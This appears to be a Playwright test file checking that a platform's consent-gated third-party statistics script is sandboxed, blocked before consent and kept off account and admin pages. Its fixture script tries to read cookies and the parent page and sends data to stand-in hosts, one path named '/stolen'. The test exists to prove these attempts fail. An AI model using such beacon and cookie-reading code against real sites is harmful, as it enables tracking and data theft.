import { expect, type Page } from '@playwright/test';
import { makeProject } from '#features/projects/server/testing.ts';
import { buildUser } from '#testing/factories.ts';
import { expectAccessible, expectNoSidewaysScroll } from './support/accessibility.ts';
import { allowTime } from './support/complete.ts';
import { test, useSite, widths } from './support/site.ts';

/** Reserved names (RFC 2606): what is asked of them is answered by the test and never leaves the machine. */
const HOST = 'https://statistics.example';
const OTHER = 'https://elsewhere.example';

/** Tells its host what it can see of the page, and tries what it must not be able to do. */
const SCRIPT = `
  const tell = (what) => { new Image().src = '${HOST}/told?' + new URLSearchParams(what); };
  const attempt = (work) => { try { return String(work()); } catch (error) { return error.name; } };
  tell({
    page: platformPage.path,
    origin: self.origin,
    cookie: attempt(() => document.cookie),
    parent: attempt(() => parent.document.title),
    referrer: document.referrer,
  });
  fetch('${OTHER}/stolen').catch(() => undefined);
  fetch('/api/v4/profile').catch(() => undefined);
`;

const site = useSite(async ({ database: { pool } }) => {
  await makeProject(pool, { slug: 'orchard', needs: [[200_000n, 50_000n]] });
  await pool.query(
    `INSERT INTO external_service (name, provider_key, description, script_url, hosts, pages, is_active) VALUES
     ('Visitor statistics', 'statistics', 'Statistics GmbH, Germany.', $1, '{}', '{home,projects,project}', true),
     ('Switched off', 'off', '', $1, '{}', '{home,projects,project}', false)`,
    [`${HOST}/count.js`],
  );
});

interface Asked {
  readonly page: Page;
  /** Addresses beyond the site, in the order in which they were asked for. */
  readonly urls: string[];
  /** What the service told its host. */
  told(): Record<string, string>[];
}

async function visit(options: Parameters<typeof site.open>[0]): Promise<Asked> {
  const page = await site.open(options);
  const urls: string[] = [];
  await page.context().route(/^https:/, (route) => {
    const url = route.request().url();
    urls.push(url);
    return url === `${HOST}/count.js`
      ? route.fulfill({ contentType: 'text/javascript', body: SCRIPT })
      : route.fulfill({ status: 204, headers: { 'access-control-allow-origin': '*' } });
  });
  const told = () =>
    urls
      .filter((url) => url.startsWith(`${HOST}/told`))
      .map((url) => Object.fromEntries(new URL(url).searchParams));
  return { page, urls, told };
}

const frames = (page: Page) => page.locator('iframe[src^="/external-services/"]');
const consentOf = async (page: Page) =>
  (await page.context().cookies()).find(({ name }) => name === 'cookie_rule_detail')?.value;

test.describe('an external service', () => {
  test('loads nothing before consent, runs after it without a reload, and ends with it', async () => {
    const { page, urls, told } = await visit({ consent: null });
    const answer = await page.goto('/project/orchard/');
    const policy = answer?.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("script-src 'self'");
    expect(policy).not.toContain('statistics.example');
    const banner = page.getByRole('region', { name: 'Consent to external services' });
    await banner.getByText('The same goes for: Visitor statistics.').waitFor();
    await allowTime(page);
    expect(urls).toEqual([]);
    await expect(frames(page)).toHaveCount(0);

    const framed = page.waitForResponse((response) =>
      response.url().includes('/external-services/statistics/'),
    );
    await banner.getByRole('button', { name: 'Accept' }).click();
    const allowed = (await framed).headers()['content-security-policy'] ?? '';
    expect(allowed.match(/https:\/\/[^ ;]+/g)).toEqual([HOST, HOST, HOST]);
    await expect.poll(told).toHaveLength(1);
    await expectAccessible(page);
    await expect.poll(() => consentOf(page)).toBe('maps,youtube,streamio,vimeo,mozaik,statistics');

    // On to another page of the same document: it is told of it, once.
    await page.getByRole('banner').getByRole('link', { name: 'Projects' }).click();
    await page.getByRole('heading', { level: 1 }).waitFor();
    await expect
      .poll(() => told().map(({ page: path }) => path))
      .toEqual(['/project/orchard/', '/projects/']);

    await page.goto('/cookie-settings/');
    const box = page.getByLabel('Visitor statistics');
    await expect(box).toBeChecked();
    await page.getByText('Statistics GmbH, Germany.').waitFor();
    await expect(page.getByLabel('Switched off')).toHaveCount(0);
    await box.uncheck();
    await page.getByRole('button', { name: 'Save selection' }).click();
    await page.getByText('Your choice is saved for 30 days.').waitFor();
    await expect.poll(() => consentOf(page)).toBe('maps,youtube,streamio,vimeo,mozaik');
    const before = urls.length;
    await page.goto('/project/orchard/');
    await allowTime(page);
    await expect(frames(page)).toHaveCount(0);
    expect(urls.slice(before).filter((url) => url.startsWith(HOST))).toEqual([]);
  });

  test('is rejected with everything else', async () => {
    const { page, urls } = await visit({ consent: null });
    await page.goto('/project/orchard/');
    await page.getByRole('button', { name: 'Reject' }).click();
    await expect.poll(() => consentOf(page)).toBe('');
    await allowTime(page);
    await expect(frames(page)).toHaveCount(0);
    expect(urls).toEqual([]);
  });

  test('cannot reach the page, its cookies, this site or other hosts', async () => {
    const user = await buildUser(site.services, {});
    const { page, urls, told } = await visit({ consent: 'statistics', as: user });
    const asked: string[] = [];
    page.on('response', (response) => {
      if (response.url().startsWith(`${site.url}/api/v4/profile`)) asked.push(response.url());
    });
    await page.goto('/project/orchard/');
    await expect.poll(told).toEqual([
      {
        page: '/project/orchard/',
        origin: 'null',
        cookie: 'SecurityError',
        parent: 'SecurityError',
        referrer: '',
      },
    ]);
    await allowTime(page);
    expect(urls.filter((url) => !url.startsWith(HOST))).toEqual([]);
    expect(asked).toEqual([]);
  });

  test('runs beside no page of accounts, giving or staff, whatever is allowed', async () => {
    const user = await buildUser(site.services, { isSuperuser: true });
    const { page, urls } = await visit({ consent: 'statistics,off', as: user });
    for (const path of ['/account/profile/', '/account/donations/', '/redeem/', '/site-admin/']) {
      await page.goto(path);
      await allowTime(page);
      await expect(frames(page), path).toHaveCount(0);
    }
    const visitor = await visit({ consent: 'statistics,off' });
    for (const path of ['/login/', '/signup/', '/imprint/']) {
      await visitor.page.goto(path);
      await allowTime(visitor.page);
      await expect(frames(visitor.page), path).toHaveCount(0);
    }
    expect([...urls, ...visitor.urls]).toEqual([]);
  });

  for (const [name, width, locale] of [
    ['phone', widths.phone, 'sie_DE'],
    ['tablet', widths.tablet, 'du_DE'],
    ['desktop', widths.desktop, 'en_US'],
  ] as const) {
    test(`is named where visitors are asked, on a ${name}`, async () => {
      const { page } = await visit({ consent: null, width, locale });
      await page.goto('/project/orchard/');
      await page.getByText('Visitor statistics').waitFor();
      await expectAccessible(page);
      await expectNoSidewaysScroll(page);
      await page.goto('/cookie-settings/');
      await page.getByLabel('Visitor statistics').waitFor();
      await expectAccessible(page);
      await expectNoSidewaysScroll(page);
    });
  }

  test('is allowed one by one without scripts', async () => {
    const page = await site.open({ javaScript: false, consent: null });
    await page.goto('/cookie-settings/');
    await page.getByLabel('Visitor statistics').check();
    await page.getByRole('button', { name: 'Save selection' }).click();
    await page.getByText('Your choice is saved for 30 days.').waitFor();
    await expect.poll(() => consentOf(page)).toBe('statistics');
  });
});

test.describe('staff', () => {
  test('add a service, are told what is wrong, and activate it in the list', async () => {
    const editor = await buildUser(site.services, {
      permissions: ['create_external_services', 'change_external_services'],
    });
    const page = await site.open({ as: editor });
    await page.goto('/site-admin/external-services/');
    await page.getByRole('link', { name: 'Add a service' }).click();
    await page.getByRole('heading', { level: 1, name: 'Add a service' }).waitFor();
    await page.getByLabel('Name').fill('Chat');
    await page.getByLabel('Provider key').fill('maps');
    await page.getByLabel('Address of the script').fill('http://chat.example/a.js');
    await page.getByRole('button', { name: 'Save service' }).click();
    const summary = page.getByRole('alert');
    await summary.getByRole('link', { name: /The platform uses this key itself/ }).waitFor();
    await summary.getByRole('link', { name: /begins with https:\/\// }).waitFor();
    await expectAccessible(page);
    await page.getByLabel('Provider key').fill('chat');
    await page.getByLabel('Address of the script').fill('https://chat.example/a.js');
    await page.getByRole('button', { name: 'Save service' }).click();
    await page.waitForURL(/external-services\/\d+\/$/);
    await page.getByRole('heading', { level: 1, name: 'Chat' }).waitFor();
    await expectAccessible(page);

    await page.goto('/site-admin/external-services/?search=chat');
    await page.getByRole('checkbox', { name: 'Chat' }).check();
    await page.getByRole('button', { name: 'Activate', exact: true }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByText('Activate 1 service?').waitFor();
    await expectAccessible(page);
    await dialog.getByRole('button', { name: 'Activate' }).click();
    const active = () =>
      site.services.database.pool
        .query(`SELECT is_active FROM external_service WHERE provider_key = 'chat'`)
        .then(({ rows }) => rows);
    await expect.poll(active).toEqual([{ is_active: true }]);
  });
});
